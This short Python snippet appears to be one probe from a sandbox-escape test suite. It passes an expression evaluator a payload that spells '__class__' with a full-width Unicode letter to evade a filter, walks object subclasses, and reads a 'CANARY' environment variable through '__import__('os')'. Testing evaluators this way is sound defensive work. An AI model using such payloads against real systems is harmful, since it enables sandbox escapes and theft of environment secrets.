"""P1: a dunder in full-width letters."""


def attack(door):
    door.value("().__\uff43lass__.__base__.__subclasses__() and __import__('os').environ['CANARY']")
